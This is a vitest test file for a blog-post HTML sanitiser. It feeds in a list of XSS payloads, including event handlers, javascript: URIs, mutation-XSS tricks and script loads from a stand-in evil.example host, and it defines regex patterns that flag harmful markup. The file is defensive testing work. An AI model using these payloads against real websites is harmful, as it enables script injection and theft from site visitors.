import { Parser } from 'htmlparser2';
import { array, assert, constantFrom, property } from '#test/fast-check.ts';
import { describe, expect, it } from 'vitest';
import { sanitisePost } from './sanitise-post.server.ts';

const origin = 'https://deals.example';
const clean = (html: string) => sanitisePost(html, origin);

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></p></xmp>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><button formaction="javascript:alert(1)">Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))" onmouseover="alert(1)">x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<p><plaintext><img src=x onerror=alert(1)>',
];

// Proves P18: HTML sanitised
// Proves R17: blog HTML
describe('R17: sanitizing a post', () => {
  it.each(attacks)('R17: removes %s from a post', (attack) => {
    const html = clean(`<p>before</p>${attack}`);
    expect(harmIn(html)).toEqual([]);
    expect(html).toContain('<p>before</p>');
  });

  it('R17: removes attacks from a post that are split and mixed', () => {
    const pieces = attacks.flatMap((attack) => attack.split(/(?<=[<>"'=\s])/));
    assert(
      property(array(constantFrom(...pieces), { maxLength: 25 }), (mixed) => {
        expect(harmIn(clean(mixed.join('')))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  it('R17: detects harmful markup by the check that the other tests use', () => {
    expect(harmIn('<script>x</script><img src="java script:x" onload="x">')).toEqual([
      '<script>',
      'src=java script:x',
      'onload',
    ]);
  });

  it('R17: changes nothing when a post is sanitized twice', () => {
    for (const attack of attacks) expect(clean(clean(attack))).toBe(clean(attack));
  });
});

describe('legitimate content', () => {
  it('keeps headings, lists, tables, quotes and code of a post', () => {
    const html =
      '<h2>One</h2><p>A <strong>b</strong> &amp; <em>c</em></p><ul><li>x</li></ul><blockquote>q</blockquote>' +
      '<pre><code>a &lt; b</code></pre><table><tbody><tr><th scope="row">h</th><td>1</td></tr></tbody></table>';
    expect(clean(html)).toBe(html);
  });

  it('demotes a first-level heading, since the page has its own', () => {
    expect(clean('<h1>Title</h1>')).toBe('<h2>Title</h2>');
  });

  it('keeps the text of an unknown tag', () => {
    expect(clean('<p><blink>Sale</blink></p>')).toBe('<p>Sale</p>');
  });

  it('marks links to other hosts as nofollow and noopener', () => {
    expect(clean('<a href="https://other.example/x" rel="dofollow opener">x</a>')).toBe(
      '<a href="https://other.example/x" rel="nofollow noopener">x</a>',
    );
    expect(clean('<a href="//other.example/x">x</a>')).not.toContain('href');
  });

  it('keeps links within the site unchanged', () => {
    expect(clean('<a href="/deals">x</a> <a href="https://deals.example/blog">y</a>')).toBe(
      '<a href="/deals">x</a> <a href="https://deals.example/blog">y</a>',
    );
  });

  it('keeps the attribute of links shown as buttons, and no other data attribute', () => {
    const button = '<p><a href="/deals" data-button>See <strong>deals</strong></a></p>';
    expect(clean(button)).toBe(button);
    expect(clean(clean('<a data-button="x" data-other="y" href="/deals">x</a>'))).toBe(
      '<a href="/deals" data-button="x">x</a>',
    );
    expect(clean('<p data-button>x</p>')).toBe('<p>x</p>');
  });

  it('makes links and pictures absolute for feeds and emails', () => {
    const html = '<a href="/deals">x</a><img src="/media/a.webp">';
    const elsewhere = sanitisePost(html, origin, { hasFullAddresses: true });
    expect(elsewhere).toContain('<a href="https://deals.example/deals">');
    expect(elsewhere).toContain('src="https://deals.example/media/a.webp"');
  });

  it('loads pictures lazily, without a referrer, with an alt text even if empty', () => {
    expect(clean('<img src="/media/a.webp" loading="eager">')).toBe(
      '<img src="/media/a.webp" loading="lazy" alt="" decoding="async" referrerpolicy="no-referrer" />',
    );
    expect(clean('<img alt="nothing to see">')).toBe('');
  });

  it('R18: loads external pictures by https, and omits those that no page would show', () => {
    expect(clean('<img src="http://img.example/a.png">')).toContain(
      'src="https://img.example/a.png"',
    );
    expect(clean('<img src="http://img.example:8080/a.png">')).toBe('');
    const own = 'http://localhost:3000';
    expect(sanitisePost(`<img src="${own}/media/a.webp">`, own)).toContain(
      `src="${own}/media/a.webp"`,
    );
  });
});

const harmfulTags =
  /^(?:script|style|iframe|object|embed|form|button|meta|base|link|svg|math|xmp|template|noscript)$/;
const harmfulAttributes = /^on|^style$|^srcdoc$|^formaction$/;
const harmfulSchemes = /^(?:javascript|vbscript|data):/i;

/** Parses the output like a browser and lists forbidden markup. */
function harmIn(html: string): string[] {
  const harm: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (harmfulTags.test(name)) harm.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (harmfulAttributes.test(attribute)) harm.push(attribute);
        // A browser ignores spaces and control characters inside a scheme.
        if (harmfulSchemes.test(value.replace(/[\s\p{Cc}]/gu, '')))
          harm.push(`${attribute}=${value}`);
      }
    },
  });
  parser.end(html);
  return harm;
}
